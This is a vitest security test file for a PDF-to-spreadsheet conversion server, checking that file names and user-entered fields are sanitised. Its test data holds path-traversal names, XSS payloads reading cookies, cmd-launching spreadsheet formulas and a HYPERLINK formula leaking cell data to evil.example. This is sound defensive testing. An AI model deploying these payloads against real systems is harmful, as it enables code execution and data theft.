/**
 * Hostile text through the whole server: file names (path traversal, non-UTF-8 bytes, bidi
 * tricks, control characters) and field values (spreadsheet formulas, HTML and script) arriving
 * in an upload, a PDF's own text, or a user's correction. Stored and displayed names must be
 * clean base names; values come back unchanged as JSON strings (the client renders text, never
 * HTML) and sit in the workbook as plain text in Text-formatted cells, never as formulas.
 */
import { parse } from 'content-disposition';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CERTIFICATE_LINES, certificatePdf } from '../../fixtures/hostile/pdf-writer.js';
import { HttpSession } from '../../helpers/http-session.js';
import { readXlsxPart, xlsxPartNames } from '../../helpers/xlsx-parts.js';
import { buildAppWithRealParser, type RealParserApp } from './real-parser-app.js';

const FORMULA = "=cmd|' /C calc'!A0";
const SCRIPT = '<script>alert(1)</script>';
const IMAGE = '<img src=x onerror=alert(document.cookie)>';

/** What a user types into the correction form. */
const CORRECTIONS = {
  equipmentName: FORMULA,
  manufacturer: SCRIPT,
  model: IMAGE,
  serialNumber: "+SUM(1+1)*cmd|' /C calc'!A0",
  equipmentId: '@SUM(1+1)',
  certificateNumber: "-2+3+cmd|' /C calc'!A0",
  calibrationLab: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  technician: '"><svg onload=alert(1)>',
};

// Characters a stored display name must never contain: path separators, C0/C1 controls, and the
// bidi and zero-width marks that disguise an extension.
const UNCLEAN_NAME =
  // eslint-disable-next-line no-control-regex
  /[/\\\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;

async function loadWorkbook(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

/** Every cell of every sheet holding exactly `value`. */
function cellsHolding(workbook: ExcelJS.Workbook, value: string): ExcelJS.Cell[] {
  const found: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.value === value) found.push(cell);
      }),
    ),
  );
  return found;
}

/** The formula text of every <f> element in every worksheet part. */
function allFormulas(buffer: Buffer): string[] {
  return xlsxPartNames(buffer)
    .filter((name) => name.startsWith('xl/worksheets/') && name.endsWith('.xml'))
    .flatMap((name) =>
      [...readXlsxPart(buffer, name).matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map((m) => m[1] ?? ''),
    );
}

function expectPlainText(buffer: Buffer, workbook: ExcelJS.Workbook, value: string) {
  const cells = cellsHolding(workbook, value);
  expect(cells.length, `a cell holding ${value}`).toBeGreaterThan(0);
  for (const cell of cells) {
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.numFmt).toBe('@');
  }
  // The workbook's only formulas are its own (Days Until Due, Status), never user text.
  for (const formula of allFormulas(buffer)) {
    expect(formula).not.toMatch(/cmd\||HYPERLINK|SUM\(1\+1\)|script|onerror/i);
  }
}

describe('hostile names and values through API and workbook', () => {
  let t: RealParserApp;
  let browser: HttpSession;

  beforeAll(async () => {
    t = await buildAppWithRealParser({ RATE_LIMIT_PER_MINUTE: '100000', PAYMENT_PROVIDER: 'off' });
    browser = new HttpSession(t.app);
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  /** Uploads a certificate with the Content-Disposition parameters given as raw bytes. */
  async function uploadNamed(disposition: Buffer, pdf = certificatePdf()) {
    const boundary = 'certsheet-hostile-name';
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="pdf"; `),
      disposition,
      Buffer.from('\r\nContent-Type: application/pdf\r\n\r\n'),
      pdf,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const res = await browser.request({
      method: 'POST',
      url: '/api/convert-simple',
      payload,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    expect(res.statusCode).toBe(200);
    return res.json() as { conversionId: string; filename: string; downloadUrl: string };
  }

  const NAMES: [string, Buffer, string][] = [
    ['unix path traversal', Buffer.from('filename="../../../etc/passwd.pdf"'), 'passwd.pdf'],
    [
      'windows path traversal',
      Buffer.from('filename="..\\\\..\\\\windows\\\\system32\\\\evil.pdf"'),
      'evil.pdf',
    ],
    [
      'RFC 5987 encoded traversal',
      Buffer.from("filename*=UTF-8''..%2F..%2Fetc%2Fshadow.pdf"),
      'shadow.pdf',
    ],
    ['absolute path', Buffer.from('filename="/var/lib/certsheet/db.pdf"'), 'db.pdf'],
    ['right-to-left override', Buffer.from('filename="invoice\u202Efdp.exe"'), 'invoicefdp.exe'],
    ['NUL byte', Buffer.from('filename="cert\u0000.sh.pdf"', 'latin1'), 'cert.sh.pdf'],
    ['hidden file', Buffer.from('filename=".htaccess.pdf"'), 'htaccess.pdf'],
    // Invalid UTF-8 decodes to U+FFFD: visible, harmless, never a separator.
    [
      'non-UTF-8 bytes',
      Buffer.from('filename="caf\xe9 \xff.pdf"', 'latin1'),
      'caf\ufffd \ufffd.pdf',
    ],
    [
      'overlong UTF-8 slash',
      Buffer.from('filename="..\xc0\xaf..\xc0\xafboot.pdf"', 'latin1'),
      '\ufffd\ufffd..\ufffd\ufffdboot.pdf',
    ],
    // Cut from the front, so the extension survives.
    [
      '1000 characters',
      Buffer.from(`filename="${'a'.repeat(1000)}.pdf"`),
      `${'a'.repeat(196)}.pdf`,
    ],
    ['markup', Buffer.from(`filename="${IMAGE}.pdf"`), `${IMAGE}.pdf`],
  ];

  it.each(NAMES)(
    'stores and shows a clean base name for a file name with %s',
    async (_case, disposition, expected) => {
      const converted = await uploadNamed(disposition);
      const detail = (await browser.get(`/api/conversions/${converted.conversionId}`)).json();
      const stored = detail.filename as string;
      expect(stored).toBe(expected);
      expect(stored).not.toMatch(UNCLEAN_NAME);
      expect(stored.startsWith('.')).toBe(false);
      // The report's name and the download header are sanitised for file systems and headers.
      expect(converted.filename).toMatch(/^[^/\\<>:"|?*]+\.xlsx$/);
      expect(converted.filename).not.toMatch(UNCLEAN_NAME);
      const download = await browser.get(converted.downloadUrl);
      expect(download.statusCode).toBe(200);
      const header = String(download.headers['content-disposition']);
      // A plain ASCII name (quoted unless a bare token), and the exact name when it differs.
      expect(header).toMatch(
        /^attachment; filename=("[\x20-\x7e]+"|[\w.!#$&'+^`|~-]+)(; filename\*=UTF-8''[\w.%!~-]+)?$/,
      );
      expect(header).not.toMatch(/[/\\]/);
      expect(parse(header).parameters.filename).toBe(converted.filename);
    },
    60_000,
  );

  it('returns corrected hostile values unchanged as JSON and writes them as text cells', async () => {
    const converted = await uploadNamed(Buffer.from('filename="hostile-values.pdf"'));
    const patch = await browser.request({
      method: 'PATCH',
      url: `/api/conversions/${converted.conversionId}`,
      payload: { fields: CORRECTIONS },
    });
    expect(patch.statusCode).toBe(200);
    expect(patch.headers['content-type']).toContain('application/json');
    expect(patch.headers['x-content-type-options']).toBe('nosniff');
    expect(patch.json().extractedData).toMatchObject(CORRECTIONS);
    const detail = await browser.get(`/api/conversions/${converted.conversionId}`);
    expect(detail.json().extractedData).toMatchObject(CORRECTIONS);

    const download = await browser.get(converted.downloadUrl);
    expect(download.statusCode).toBe(200);
    const workbook = await loadWorkbook(download.rawPayload);
    for (const value of Object.values(CORRECTIONS)) {
      expectPlainText(download.rawPayload, workbook, value);
    }
  }, 60_000);

  it('keeps formula and markup text printed in the PDF itself as plain text', async () => {
    const lines = CERTIFICATE_LINES.map((line) =>
      line.startsWith('Manufacturer:')
        ? `Manufacturer: ${SCRIPT}`
        : line.startsWith('Model:')
          ? `Model: ${IMAGE}`
          : line.startsWith('Instrument:')
            ? `Instrument: ${FORMULA}`
            : line,
    );
    const converted = await uploadNamed(
      Buffer.from('filename="printed-payloads.pdf"'),
      certificatePdf(lines),
    );
    const detail = (await browser.get(`/api/conversions/${converted.conversionId}`)).json();
    expect(detail.extractedData).toMatchObject({ manufacturer: SCRIPT, model: IMAGE });
    expect(detail.extractedData.equipmentName).toContain("cmd|' /C calc'!A0");

    const download = await browser.get(converted.downloadUrl);
    const workbook = await loadWorkbook(download.rawPayload);
    for (const value of [SCRIPT, IMAGE, detail.extractedData.equipmentName as string]) {
      expectPlainText(download.rawPayload, workbook, value);
    }
  }, 60_000);
});
